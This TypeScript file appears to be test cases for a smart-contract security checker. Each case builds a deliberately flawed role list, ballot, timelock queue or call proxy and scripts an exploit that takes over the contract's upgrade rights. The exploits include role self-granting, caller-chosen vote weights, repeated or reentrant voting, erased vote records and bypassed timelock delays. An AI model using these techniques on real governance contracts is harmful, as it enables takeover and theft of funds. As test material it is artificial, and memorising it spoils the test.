/** Lists of accounts, counts of votes, queues and call proxies whose rules differ from what they show. */
import { concatHex, type Hex, keccak256, stringToHex } from 'viem'
import { signers } from '../../evm/control.ts'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK, WITHOUT_DELAY } from '../case.ts'
import { type Built, type Chain, callData, system } from '../chain.ts'
import { deploySafe, execSigned, upgradeCall } from '../safes.ts'
import { controlledBy, part } from './lying-getters.ts'

type Draft = Omit<Case, 'truth' | 'cause'> & Partial<Pick<Case, 'truth' | 'cause'>>

const UPGRADER = keccak256(stringToHex('UPGRADER_ROLE'))
const INITIALIZE = 'initialize(address,address)'

/** Logic with a list of accounts: a timelock that it shows, and one account of the attacker. */
const listed =
  (name: string) =>
  async (chain: Chain): Promise<Built> => {
    const data = callData(INITIALIZE, [await chain.timelock(), chain.hidden().address])
    return system(await chain.proxy(await chain.deploy(name), data))
  }
const upgrade = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeTo(address)', [code])
const grantAndUpgrade = async (attack: Attack, built: Built): Promise<void> => {
  await attack.send(built.address, 'grantRole(bytes32,address)', [UPGRADER, attack.account.address])
  await upgrade(attack, built)
}

type TokenOf = (chain: Chain) => Promise<Hex>
/** A contract that a vote controls. */
export const voted =
  (name: string, deployToken: TokenOf) =>
  async (chain: Chain): Promise<Built> => {
    const token = await deployToken(chain)
    return controlledBy(chain, await chain.deploy(name, token), { token })
  }
/** The governor weighs votes without a token. */
const weighed =
  (name: string, ...args: readonly unknown[]) =>
  async (chain: Chain): Promise<Built> =>
    controlledBy(chain, await chain.deploy(name, ...args))

/** A part of all votes, and how often it must count to be enough. */
export const TENTH = 10n ** 23n
export const TIMES = 6
export const LESS_THAN_HALF = 45n * 10n ** 22n
/** A token of a council. The attacker has a part of it. */
export const tokenOf =
  (name: string, amount = TENTH): TokenOf =>
  async (chain) => {
    const council = await chain.council()
    const token = await chain.deploy(name, council)
    await chain.send(token, 'transfer(address,uint96)', [chain.hidden().address, amount], council)
    return token
  }
/** The same, and what the attacker has counts as its votes. */
export const tokenFor =
  (name = 'CheckpointToken', amount = TENTH): TokenOf =>
  async (chain) => {
    const [token, holder] = [await tokenOf(name, amount)(chain), chain.hidden().address]
    await chain.send(token, 'delegate(address)', [holder], holder)
    return token
  }
/** Proposes the upgrade, votes and executes it. */
export const pass =
  (
    vote: string,
    args: readonly unknown[],
    before?: (attack: Attack) => Promise<readonly unknown[]>,
    times = 1,
    afterVote?: () => Promise<void>,
  ) =>
  async (attack: Attack, built: Built): Promise<void> => {
    const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
    const data = upgradeCall(built.address, attack.code)
    const more = (await before?.(attack)) ?? []
    await attack.send(controller, 'propose(address,bytes)', [target, data])
    for (let n = 0; n < times; n += 1) {
      await attack.send(controller, vote, [proposal(target, data), true, ...args, ...more])
      await afterVote?.()
    }
    await attack.wait(700_000)
    await attack.send(controller, 'execute(address,bytes)', [target, data])
  }
/** Gives itself a weight first. */
const passWithNote = async (attack: Attack, built: Built): Promise<void> => {
  await attack.send(part(built, 'controller'), 'note(uint256)', [10n ** 30n])
  await pass('vote(bytes32,bool)', [])(attack, built)
}
export const proposal = (target: Hex, data: Hex): Hex =>
  keccak256(`0x${callData('f(address,bytes)', [target, data]).slice(10)}`)

export const EXECUTE = 'executeTransaction(address,uint256,string,bytes,uint256)'
export const QUEUE = 'queueTransaction(address,uint256,string,bytes,uint256)'

/** A Safe with two of three accounts of the attacker. */
export const safeOfThree = (chain: Chain): Promise<Hex> =>
  deploySafe(chain, { owners: [0, 1, 2].map((n) => chain.hidden(n).address), threshold: 2 })
/** A queue whose administrator is a Safe of the attacker's accounts. */
export const queued =
  (name: string) =>
  async (chain: Chain): Promise<Built> => {
    const safe = await safeOfThree(chain)
    return controlledBy(chain, await chain.deploy(name, safe), { safe })
  }
export const now = async ({ chain }: Attack): Promise<bigint> => {
  const { timestamp } = await chain.node.rpc<{ timestamp: Hex }>('eth_getBlockByNumber', 'latest', false)
  return BigInt(timestamp)
}

/** Code that answers every call like the attacker's logic. */
const answering: Hex = concatHex(['0x7f', keccak256(stringToHex('taken')), '0x60005260206000f3'])

const drafts: readonly Draft[] = [
  {
    name: 'any caller may join the role that grants the role that upgrades',
    by: 'anyone',
    build: listed('OpenLadder'),
    exploit: async (attack, built) => {
      await attack.send(built.address, 'join()')
      await grantAndUpgrade(attack, built)
    },
  },
  {
    name: 'any caller may replace the role that administers the administrators',
    by: 'anyone',
    build: listed('OpenRoleAdmin'),
    exploit: async (attack, built) => {
      const role = keccak256(stringToHex('GUEST_ROLE'))
      await attack.send(built.address, 'welcome()')
      await attack.send(built.address, 'delegateTo(bytes32)', [role])
      const admin = keccak256(stringToHex('ADMIN_ROLE'))
      await attack.send(built.address, 'grantRole(bytes32,address)', [admin, attack.account.address])
      await grantAndUpgrade(attack, built)
    },
  },
  {
    name: 'hasRole denies a member that the guard finds in its table',
    by: 'one key',
    build: listed('DenyingRoles'),
    exploit: upgrade,
  },
  {
    name: 'a revoked member keeps the bit that the guard reads',
    by: 'one key',
    build: listed('HalfRevoked'),
    exploit: upgrade,
  },
  {
    name: 'getRoleAdmin names another role than the table',
    by: 'one key',
    build: listed('LyingRoleAdmin'),
    exploit: grantAndUpgrade,
  },
  {
    name: 'wards() denies a ward that the guard finds in its table',
    by: 'one key',
    build: listed('DenyingWards'),
    exploit: ({ send, code }, { address }) => send(address, 'upgradeToAndCall(address,bytes)', [code, '0x']),
  },
  {
    name: 'earlier logic of the proxy gave a role without an event',
    by: 'one key',
    build: async (chain) => {
      const built = await listed('EarlierLogic')(chain)
      await chain.send(built.address, 'finish(address)', [await chain.deploy('LadderRoles')])
      return built
    },
    exploit: upgrade,
  },
  {
    name: 'the caller names the contract that weighs its vote',
    by: 'anyone',
    cause: 'lying getter',
    build: weighed('AnyTokenBallots'),
    exploit: pass('vote(bytes32,bool,address)', [], async ({ deploy }) => [await deploy('Whale')]),
  },
  {
    name: 'the caller gives the weight of its vote',
    by: 'anyone',
    cause: 'lying getter',
    build: weighed('AnyWeightBallots'),
    exploit: pass('vote(bytes32,bool,uint256)', [10n ** 30n]),
  },
  {
    name: 'a token returns nothing, and the caller gave the weight of its vote',
    by: 'anyone',
    cause: 'lying getter',
    build: weighed('ShortAnswerBallots', signers(1)[0]),
    exploit: pass('vote(bytes32,bool,uint256)', [10n ** 30n]),
  },
  {
    name: 'a holder votes as often as it likes',
    by: 'one key',
    cause: 'lying getter',
    build: voted('ManyVotesBallots', tokenFor()),
    exploit: pass('vote(bytes32,bool)', [], undefined, TIMES),
  },
  {
    name: 'a vote with one memo is not recorded',
    by: 'one key',
    cause: 'lying getter',
    build: voted('UnrecordedBallots', tokenFor()),
    exploit: pass('vote(bytes32,bool,uint256)', [7n], undefined, TIMES),
  },
  {
    name: 'votes are recorded under a number of the caller',
    by: 'one key',
    cause: 'lying getter',
    build: voted('NumberedBallots', tokenFor()),
    exploit: async (attack, built) => {
      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, attack.code)
      await attack.send(controller, 'propose(address,bytes)', [target, data])
      for (let number = 1n; number <= TIMES; number += 1n)
        await attack.send(controller, 'vote(bytes32,bool,uint256)', [proposal(target, data), true, number])
      await attack.wait(700_000)
      await attack.send(controller, 'execute(address,bytes)', [target, data])
    },
  },
  {
    name: 'what records a vote lies next to what is tested',
    by: 'one key',
    cause: 'lying getter',
    build: voted('MisplacedReceipts', tokenFor()),
    exploit: pass('vote(bytes32,bool)', [], undefined, TIMES),
  },
  {
    name: 'votes against a proposal can be removed',
    by: 'one key',
    cause: 'lying getter',
    build: async (chain) => {
      const code = await chain.deploy('Taken')
      const built = await voted('ForgetfulBallots', tokenFor('CheckpointToken', LESS_THAN_HALF))(chain)
      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, code)
      const council = await chain.council()
      await chain.send(part(built, 'token'), 'delegate(address)', [council], council)
      await chain.send(controller, 'propose(address,bytes)', [target, data])
      await chain.send(controller, 'vote(bytes32,bool)', [proposal(target, data), false], council)
      return { ...built, parts: { ...built.parts, code } }
    },
    exploit: async (attack, built) => {
      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, part(built, 'code'))
      await attack.send(controller, 'vote(bytes32,bool)', [proposal(target, data), true])
      await attack.send(controller, 'clean(bytes32)', [proposal(target, data)])
      await attack.wait(700_000)
      await attack.send(controller, 'execute(address,bytes)', [target, data])
    },
  },
  {
    name: 'the caller says how often its vote counts',
    by: 'one key',
    cause: 'lying getter',
    build: voted('RepeatedBallots', tokenFor()),
    exploit: pass('vote(bytes32,bool,uint256)', [TIMES]),
  },
  {
    name: 'a voter may vote again before its vote is recorded',
    by: 'one key',
    cause: 'lying getter',
    build: voted('ReentrantBallots', tokenFor()),
    exploit: async (attack, built) => {
      const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, attack.code)
      const voter = await attack.deploy('Reentering')
      await attack.send(part(built, 'token'), 'delegate(address)', [voter])
      await attack.send(controller, 'propose(address,bytes)', [target, data])
      await attack.send(voter, 'start(address,bytes32,uint256)', [controller, proposal(target, data), TIMES])
      await attack.wait(700_000)
      await attack.send(controller, 'execute(address,bytes)', [target, data])
    },
  },
  {
    name: 'the record of a vote can be removed',
    by: 'one key',
    cause: 'lying getter',
    build: voted('ForgettingBallots', tokenFor()),
    exploit: async (attack, built) => {
      const controller = part(built, 'controller')
      const id = proposal(part(built, 'admin'), upgradeCall(built.address, attack.code))
      await pass('vote(bytes32,bool)', [], undefined, TIMES, () => attack.send(controller, 'forget(bytes32)', [id]))(
        attack,
        built,
      )
    },
  },
  {
    name: 'the receipt of a vote does not contain that there was one',
    by: 'one key',
    cause: 'lying getter',
    build: voted('ReceiptBallots', tokenFor()),
    exploit: pass('vote(bytes32,bool)', [], undefined, TIMES),
  },
  {
    name: 'a library weighs votes by the storage of the governor',
    by: 'anyone',
    cause: 'lying getter',
    build: voted('LibraryBallots', (chain) => chain.deploy('StoredWeights')),
    exploit: passWithNote,
  },
  {
    name: 'a library weighs votes by the storage of the governor, asked in assembly',
    by: 'anyone',
    cause: 'lying getter',
    build: voted('LibraryWordBallots', (chain) => chain.deploy('StoredWeights')),
    exploit: passWithNote,
  },
  {
    name: 'the key of a queued operation does not cover the call',
    by: 'anyone',
    cause: 'lying getter',
    build: async (chain) => {
      const built = await queued('SaltQueue')(chain)
      return built
    },
    exploit: async (attack, built) => {
      const controller = part(built, 'controller')
      const eta = (await now(attack)) + 172_900n
      // The signers queue something harmless.
      const two = [attack.hidden(0), attack.hidden(1)]
      await execSigned(attack, part(built, 'safe'), controller, callData(QUEUE, [controller, 0n, '', '0x', eta]), two)
      await attack.wait(173_000)
      const data = upgradeCall(built.address, attack.code)
      await attack.send(controller, EXECUTE, [part(built, 'admin'), 0n, '', data, eta])
    },
  },
  {
    name: 'the time of a queued operation is not part of its key',
    by: 'the signers',
    cause: 'lying getter',
    truth: WITHOUT_DELAY,
    build: queued('LooseTimeQueue'),
    exploit: async (attack, built) => {
      const [safe, controller] = [part(built, 'safe'), part(built, 'controller')]
      const two = [attack.hidden(0), attack.hidden(1)]
      const eta = (await now(attack)) + 172_900n
      const operation = [part(built, 'admin'), 0n, '', upgradeCall(built.address, attack.code)]
      await execSigned(attack, safe, controller, callData(QUEUE, [...operation, eta]), two)
      await execSigned(attack, safe, controller, callData(EXECUTE, [...operation, 1n]), two)
    },
  },
  {
    name: 'a call proxy that changes its input',
    by: 'one key',
    cause: 'forwarder',
    build: async (chain) =>
      system(await chain.deploy('ScramblingCaller', await chain.deploy('Plain'), chain.hidden().address)),
    exploit: async ({ sendRaw, deployRuntime }, { address }) => sendRaw(address, await deployRuntime(answering)),
  },
]

export const lists: readonly Case[] = drafts.map((draft) => ({ cause: 'other guard', truth: WEAK, ...draft }))

/** The same without the trick. */
export const listTwins: readonly Twin[] = [
  {
    name: 'a vote on a new proposal begins with no votes',
    cause: 'lying getter',
    twinOf: 'votes against a proposal can be removed',
    deserves: 'multisig',
    build: voted('StartingBallots', tokenFor('CheckpointToken', LESS_THAN_HALF)),
  },
]
